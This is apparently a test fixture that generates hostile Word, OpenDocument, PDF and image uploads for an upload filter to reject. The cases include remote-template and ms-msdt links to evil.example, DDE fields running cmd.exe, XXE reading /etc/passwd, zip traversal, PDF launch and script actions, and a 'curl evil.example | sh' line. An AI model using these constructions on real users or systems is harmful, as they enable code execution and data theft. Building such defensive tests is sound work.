"""Uploads that must not get through: each attacks whoever opens it, or the one who reads it for them."""

import io
import zipfile
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.tenants import uploads
from tests.tenants.uploads import (
    DOCX,
    ODF,
    ODT,
    ODT_NAMES,
    OPEN,
    RELATION,
    WORD,
    archive,
    docx,
    odt,
    odt_text,
    pdf,
    relations,
    word_text,
)

EVIL = "https://evil.example/x"
OFFICE_2006 = "http://schemas.microsoft.com/office/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
PROGRAM = b"MZ\x90\0" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def files() -> dict[str, tuple[str, bytes]]:
    """Every hostile file: its name as it is uploaded and its content, by what it is."""
    return {
        **{f"docx: {what}": ("lausunto.docx", content) for what, content in _word()},
        **{f"odt: {what}": ("lausunto.odt", content) for what, content in _open_document()},
        **{f"pdf: {what}": ("lausunto.pdf", content) for what, content in _pdf()},
        **{f"other: {what}": (name, content) for what, name, content in _others()},
    }


# --- Word -------------------------------------------------------------------------------------------------------------


def _related(kind: str, target: str, *, mode: str = "External", before: str = "", **parts: str | bytes) -> bytes:
    rels = relations(kind, target, mode=mode, before=before)
    return docx(**{"word/_rels/document.xml.rels": rels}, **parts)


def _typed(part: str, kind: str, content: bytes | str, *, relation: str) -> bytes:
    """A document with a part of a declared kind, and a relation to it."""
    override = f'<Override PartName="/word/{part}" ContentType="{kind}"/></Types>'
    members = {"[Content_Types].xml": uploads.DOCX_TYPES.replace("</Types>", override), f"word/{part}": content}
    return archive(DOCX | members | {"word/_rels/document.xml.rels": relations(relation, part, mode="")})


def _field(code: str) -> bytes:
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return docx(word__document_dot_xml=word_text(f"<w:p>{begin}{code}{end}</w:p>"))


def _code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def _word() -> Iterator[tuple[str, bytes]]:
    yield from _word_that_points_out()
    yield from _word_with_programs()
    yield from _word_with_fields()
    yield from _word_with_markup()
    yield from _word_packed_badly()


def _word_that_points_out() -> Iterator[tuple[str, bytes]]:
    template = f"{RELATION}/attachedTemplate"
    yield "template from the web", _related("attachedTemplate", EVIL)
    yield "a > in an attribute before the kind", _related(template, EVIL, before='x="a>b"')
    yield "kind in character references", _related(template.replace("attached", "&#97;ttached"), EVIL)
    yield "target in character references", _related(template, "&#104;ttps://evil.example/x")
    yield "mode in character references", _related(template, EVIL, mode="&#69;xternal")
    prefixed = (
        relations(template, EVIL).replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel").replace("xmlns=", "xmlns:p=")
    )
    yield "relationships with a prefix", docx(**{"word/_rels/settings.xml.rels": prefixed})
    dashed = prefixed.replace("p:", "a-b.c:").replace(":p=", ":a-b.c=")
    yield "relationships with a strange prefix", docx(**{"word/_rels/settings.xml.rels": dashed})
    utf_16 = relations(template, EVIL).encode("utf-16")
    yield "relationships in UTF-16", docx(**{"word/_rels/settings.xml.rels": utf_16})
    yield "template by ms-msdt", _related("oleObject", "ms-msdt:/id PCWDiagnostic")
    yield "template by search-ms", _related("attachedTemplate", "search-ms:query=x&amp;crumb=location:\\\\evil.example")
    yield "template of another machine", _related("attachedTemplate", "\\\\evil.example\\x.dotm")
    yield "template of another machine as file", _related("attachedTemplate", "file:///\\\\evil.example\\x.dotm")
    yield "template of another machine in percent", _related("attachedTemplate", "file:///%5C%5Cevil.example/x.dotm")
    yield "template of the strict kind", _related(f"{STRICT}/attachedTemplate", EVIL)
    yield "picture from the web", _related("image", EVIL)
    yield "picture of another machine", _related("image", "//evil.example/x.png")
    yield "object from the web", _related("oleObject", f"{EVIL}!x")
    yield "document within from the web", _related("subDocument", EVIL)
    yield "frame from the web", _related("frame", EVIL)
    yield "part of another format", _typed("a.rtf", "application/rtf", "{\\rtf1 }", relation="aFChunk")
    yield "part of web", _typed("a.html", "text/html", uploads.HTML, relation="aFChunk")
    yield "link that runs", _related("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force")
    yield "link that runs with a line break", _related("hyperlink", "java&#10;script:alert(1)")
    yield "link to another machine", _related("hyperlink", "file://evil.example/share/x.lnk")
    yield "relation of no known kind", _related("http://evil.example/relationships/theme", "theme.xml", mode="")
    yield "relation with an entity", docx(**{"word/_rels/document.xml.rels": "<!DOCTYPE r><r/>"})


def _word_with_programs() -> Iterator[tuple[str, bytes]]:
    vba = "application/vnd.ms-office.vbaProject"
    yield "macros", _typed("vbaProject.bin", vba, OLE, relation=f"{OFFICE_2006}/vbaProject")
    yield "macros under another name", _typed("theme/theme1.xml", vba, OLE, relation=f"{OFFICE_2006}/vbaProject")
    yield "macros called a picture", _typed("media/1.png", "image/png", OLE, relation=f"{OFFICE_2006}/vbaProject")
    yield "macros called settings of a printer", _typed("1.bin", vba.upper(), OLE, relation="printerSettings")
    macros = uploads.DOCX_TYPES.replace(
        f"{OPEN}.wordprocessingml.document.main", "application/vnd.ms-word.document.macroEnabled.main"
    )
    yield "document with macros", archive(DOCX | {"[Content_Types].xml": macros})
    escaped = macros.replace("macroEnabled", "macro&#69;nabled")
    yield "document with macros in character references", archive(DOCX | {"[Content_Types].xml": escaped})
    activex = f"{RELATION}/control"
    yield "control", _typed("a/1.xml", "application/vnd.ms-office.activeX+xml", "<a/>", relation=activex)
    yield "control called xml", _typed("a/1.xml", "application/xml", "<a/>", relation=activex)
    yield "packed program", _typed("1.bin", f"{OPEN}.oleObject", OLE, relation="oleObject")
    yield "program called a picture", _typed("1.png", "image/png", PROGRAM, relation="image")
    yield "program of no kind", docx(**{"word/setup.exe": PROGRAM})
    yield "add-in from the web", _typed("w.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<a/>",
        relation="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes")  # fmt: skip
    yield "sheet with macros within", docx(word__embeddings__1_dot_xlsx=archive(
        uploads.XLSX | {"[Content_Types].xml": uploads.XLSX_TYPES.replace(
            f"{OPEN}.spreadsheetml.sheet.main", "application/vnd.ms-excel.sheet.macroEnabled.main")}))  # fmt: skip
    yield "program within as a sheet", docx(word__embeddings__1_dot_xlsx=archive({"setup.exe": PROGRAM}))


def _word_with_fields() -> Iterator[tuple[str, bytes]]:
    yield "DDE field", _field(_code(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "))
    yield "DDE field in pieces", _field(_code("DD") + _code("EAU") + _code("TO c:\\\\x"))
    inner = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + _code("QUOTE 68 68 69")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    yield "field whose name is made by another", _field(inner + _code(" c:\\\\x"))
    simple = '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/x&quot; "/></w:p>'
    yield "simple field that fetches text", docx(word__document_dot_xml=word_text(simple))
    yield "field that fetches a picture", _field(_code(' INCLUDEPICTURE "https://evil.example/x.png" \\d '))
    yield "field with a link that runs", _field(_code(' HYPERLINK \\h "ms-msdt:/id x" '))
    other = f'<x:document xmlns:x="{WORD}"><x:instrText>DDE a b</x:instrText></x:document>'
    yield "DDE field with another prefix", docx(word__document_dot_xml=other)


def _word_with_markup() -> Iterator[tuple[str, bytes]]:
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml"'
    yield "old drawing from the web", docx(word__document_dot_xml=word_text(f'<v:imagedata {vml} src="{EVIL}"/>'))
    merge = '<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'
    yield "addresses from elsewhere", docx(word__settings_dot_xml=word_text(merge))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
    yield "drawing from the web", _typed("1.svg", "image/svg+xml", svg, relation="image")
    yield "drawing with a script", _typed("1.svg", "image/svg+xml", uploads.SVG, relation="image")
    bomb = '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
    yield "entities that multiply", docx(word__document_dot_xml=bomb)
    yield (
        "entity from a file",
        docx(word__document_dot_xml='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    )
    yield "deep as a well", docx(word__document_dot_xml="<a>" * 5_000 + "</a>" * 5_000)


def _word_packed_badly() -> Iterator[tuple[str, bytes]]:
    yield "unpacks to too much", docx(word__document_dot_xml=b" " * 60_000_000)
    yield "too many members", archive(DOCX | {f"{number}.xml": "" for number in range(1_000)})
    yield "a name that leads out", docx(**{"../../x.xml": "<a/>"})
    yield "two parts of one name", archive({**DOCX, "WORD/document.xml": "<a/>"})
    yield "web page behind it", docx() + uploads.HTML
    yield "program before it", PROGRAM + docx()


# --- OpenDocument -----------------------------------------------------------------------------------------------------


def _text(content: str, names: str = ODT_NAMES) -> bytes:
    return odt({"content.xml": odt_text(content, names=names)})


def _scripted(scripts: str, names: str = ODT_NAMES) -> bytes:
    return odt({"content.xml": odt_text(scripts=f"<office:scripts>{scripts}</office:scripts>", names=names)})


def _open_document() -> Iterator[tuple[str, bytes]]:
    listener = '<office:event-listeners><{0}:event-listener {0}:event-name="dom:load"/></office:event-listeners>'
    yield "macro when opened", _scripted(listener.format("script"))
    renamed = ODT_NAMES.replace("xmlns:script=", "xmlns:s=")
    yield "macro when opened, other prefix", _scripted(listener.format("s"), renamed)
    newer = ODT_NAMES.replace(f"{ODF}:script:1.0", f"{ODF}:script:1.3")
    yield "macro when opened, newer version", _scripted(listener.format("script"), newer)
    older = ODT_NAMES.replace(f"{ODF}:script:1.0", "http://openoffice.org/2000/script")
    yield "macro when opened, oldest name", _scripted(listener.format("script"), older)
    yield "script in the text", _scripted('<office:script script:language="ooo:Basic"/>')
    yield "macro field", _text('<text:p><text:execute-macro text:name="x"/></text:p>')
    yield "macro behind a link", _text('<text:a xlink:href="vnd.sun.star.script:a.py$x?language=Python"/>')
    yield "macro behind a link in references", _text('<text:a xlink:href="&#118;nd.sun.star.script:a"/>')
    yield "link that runs", _text('<text:a xlink:href="ms-msdt:/id x"/>')
    yield "link to another machine", _text('<text:a xlink:href="file://evil.example/x"/>')
    yield "picture from the web", _text(f'<draw:image xlink:href="{EVIL}"/>')
    yield "picture of another machine", _text('<draw:image xlink:href="\\\\evil.example\\x.png"/>')
    yield "picture from outside", _text('<draw:image xlink:href="../../x.png"/>')
    yield "section from the web", _text(f'<text:section-source xlink:href="{EVIL}"/>')
    yield "frame from the web", _text(f'<draw:floating-frame xlink:href="{EVIL}"/>')
    yield "plug-in", _text('<draw:plugin xlink:href="content.xml"/>')
    yield "applet", _text('<draw:applet xlink:href="content.xml"/>')
    yield (
        "DDE",
        _text('<text:dde-connection-decl office:dde-application="cmd"/>'),
    )
    yield "DDE source", _text('<table:table><office:dde-source office:dde-application="soffice"/></table:table>')
    yield "form sent elsewhere", _text(f'<form:form xlink:href="{EVIL}"/>')
    formula = (
        f'<office:d xmlns:office="{ODF}:office:1.0" xmlns:table="{ODF}:table:1.0" table:formula="of:=WEBSERVICE(1)"/>'
    )
    yield "formula that fetches", odt({"Object 1/content.xml": formula})
    meta = f'<office:m xmlns:office="{ODF}:office:1.0" xmlns:meta="{ODF}:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">{{}}</office:m>'
    yield "loads itself anew", odt({"meta.xml": meta.format(f'<meta:auto-reload xlink:href="{EVIL}"/>')})
    yield "template from the web", odt({"meta.xml": meta.format(f'<meta:template xlink:href="{EVIL}"/>')})
    yield "Basic", odt({"Basic/Standard/Module1.xml": "<a/>"})
    yield "Python", odt({"Scripts/python/a.py": "import os"})
    yield "dialog", odt({"Dialogs/Standard/dialog-lc.xml": "<a/>"})
    yield "packed program", odt({"Object 1": OLE})
    yield "program called a picture", odt({"Pictures/1.png": PROGRAM})
    yield "drawing with a script", odt({"Pictures/1.svg": uploads.SVG})
    menu = '<m:menu xmlns:m="http://openoffice.org/2001/menu" m:id="vnd.sun.star.script:a"/>'
    yield "macro in a menu", odt({"Configurations2/menubar/menubar.xml": menu})
    entry = '<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>'
    kind = f'<m:manifest xmlns:m="{ODF}:manifest:1.0">{entry}</m:manifest>'
    yield "object in the manifest", odt({"META-INF/manifest.xml": kind})
    yield "document type", odt({"content.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'})
    yield "entity in the manifest", odt({"META-INF/manifest.xml": "<!DOCTYPE a><a/>"})
    yield "unpacks to too much", odt({"content.xml": b" " * 60_000_000})
    yield "PDF in front", archive({"%PDF-1.7": ""} | ODT)


# --- PDF --------------------------------------------------------------------------------------------------------------


def _action(**of: object) -> Dictionary:
    return Dictionary({f"/{key}": value for key, value in of.items()})


def _made(change: object, *, packed: bool = True, encryption: pikepdf.Encryption | None = None) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)  # type: ignore[operator]
    content = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    made.save(content, object_stream_mode=mode, encryption=encryption or False)
    return content.getvalue()


def _opening(action: Dictionary, **how: object) -> bytes:
    def open_with(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(action)

    return _made(open_with, **how)  # type: ignore[arg-type]


def _annotated(**of: object) -> bytes:
    def annotate(made: pikepdf.Pdf) -> None:
        note = _action(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **of)
        made.pages[0].Annots = Array([made.make_indirect(note)])
        made.Root.AcroForm = Dictionary(Fields=Array(made.pages[0].Annots))

    return _made(annotate)


def _rooted(**of: object) -> bytes:
    return _made(lambda made: made.Root.update(_action(**of)))


def _with_file(made: pikepdf.Pdf) -> None:
    made.attachments["setup.exe"] = pikepdf.AttachedFileSpec(made, PROGRAM)


def _launch() -> Dictionary:
    return _action(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))


def _script() -> Dictionary:
    return _action(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example')"))


def _pdf() -> Iterator[tuple[str, bytes]]:
    yield "program in a packed object", _opening(_launch())
    yield "program in an object by itself", _opening(_launch(), packed=False)
    yield "program in the catalog", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield "program under an escaped name", pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>")
    yield "program after another action", _opening(_action(S=Name.GoTo, D=Array([0]), Next=Array([_launch()])))
    yield "program behind a link", _annotated(Subtype=Name.Link, A=_launch())
    yield "program when the page is shown", _made(lambda made: made.pages[0].update({"/AA": _action(O=_launch())}))
    locked = pikepdf.Encryption(user="", owner="omistaja")
    yield "program in a locked file", _opening(_launch(), encryption=locked)
    hidden = pdf(b"/OpenAction 4 0 R", more=[b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< /S /Launch /F (cmd.exe) >>"])
    yield "program that the table does not name", hidden.replace(b"5 0 obj", b"4 0 obj")
    yield "script when opened", _opening(_script())
    yield "script in a stream", _made(_stream_of_script)
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()])))
    yield "script by name", _rooted(Names=names)
    yield "script of a field", _annotated(Subtype=Name.Widget, FT=Name.Tx, AA=_action(K=_script()))
    calling = _action(S=Name.JavaScript, JS=String('AFNumber_Format(2,0,0,0,"",true); app.alert(1)'))
    yield "script behind a form's own", _annotated(Subtype=Name.Widget, FT=Name.Tx, AA=_action(F=calling))
    yield "form that is sent", _annotated(Subtype=Name.Widget, A=_action(S=Name.SubmitForm, F=String(EVIL)))
    yield (
        "form that is filled from elsewhere",
        _opening(_action(S=Name.ImportData, F=String("\\\\evil.example\\x.fdf"))),
    )
    yield (
        "leads to a file of another machine",
        _opening(_action(S=Name.GoToR, F=String("\\\\evil.example\\x.pdf"), D=Array([0]))),
    )
    yield "leads to a file within", _opening(_action(S=Name.GoToE, D=Array([0]), T=_action(R=Name.C, N=String("a"))))
    yield "link that runs", _annotated(Subtype=Name.Link, A=_action(S=Name.URI, URI=String("ms-msdt:/id x")))
    yield (
        "link to another machine",
        _annotated(Subtype=Name.Link, A=_action(S=Name.URI, URI=String("file://evil.example/x"))),
    )
    yield "base of links on another machine", _rooted(URI=_action(Base=String("file://evil.example/")))
    yield "file within", _made(_with_file)
    yield "file at a note", _annotated(Subtype=Name.FileAttachment, FS=_action(F=String("a.exe")))
    yield "film", _annotated(Subtype=Name.Movie, Movie=_action(F=String("a.avi")))
    yield "rich media", _annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())
    yield "film as an action", _opening(_action(S=Name.Rendition, OP=0))
    yield "form of another kind", _rooted(AcroForm=_action(XFA=String("<xdp/>"), Fields=Array([])))
    yield "action of no known kind", _opening(_action(S=Name("/RunEverything")))
    yield "command of a program", _opening(_action(S=Name.Named, N=Name("/AcroForm:ExportFDF")))
    yield "page of another file", _rooted(X=_action(Ref=_action(F=String("\\\\evil.example\\x.pdf"), Page=0)))
    yield "stream of another file", pdf(more=[b"<</Length 0/F(\\\\\\\\evil.example\\\\x)>>stream\n\nendstream"])
    yield "archive before it", archive({"a": "b"}) + pdf()
    yield "program before it", PROGRAM + pdf()
    yield "script before it", b"#!/bin/sh\ncurl evil.example | sh\nexit\n" + pdf()
    yield "web page before it", uploads.HTML + pdf()
    yield "virus before it", uploads.EICAR + pdf()
    yield "archive behind it", pdf() + archive({"setup.exe": PROGRAM})
    yield "archive behind it with another end", pdf() + archive({"a": "b"}) + b"\nstartxref\n9\n%%EOF\n"
    yield "archive with another signature behind it", pdf() + b"Rar!\x1a\x07\x01\0" + bytes(99)
    yield "program behind it", pdf() + PROGRAM
    yield "web page behind it", pdf() + uploads.HTML


def _stream_of_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _action(S=Name.JavaScript, JS=Stream(made, b"app.alert(1)"))


# --- others -----------------------------------------------------------------------------------------------------------


def _others() -> Iterator[tuple[str, str, bytes]]:
    yield "virus", "eicar.pdf", uploads.EICAR
    yield "program", "kuva.png", PROGRAM
    yield "drawing with a script", "kuva.svg", uploads.SVG
    yield "web page", "sivu.pdf", uploads.HTML
    yield "old Word", "lausunto.docx", OLE
    yield "archive of a program", "lausunto.docx", archive({"setup.exe": PROGRAM})
    yield "picture of too many dots", "kuva.png", uploads.png(width=60_000, height=60_000)
    yield "photograph of too many dots", "kuva.jpg", uploads.jpeg(width=60_000, height=60_000)
    yield "document under a program's name", "lausunto.docx.exe", docx()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    yield "link in an archive", "lausunto.docx", packed.getvalue()
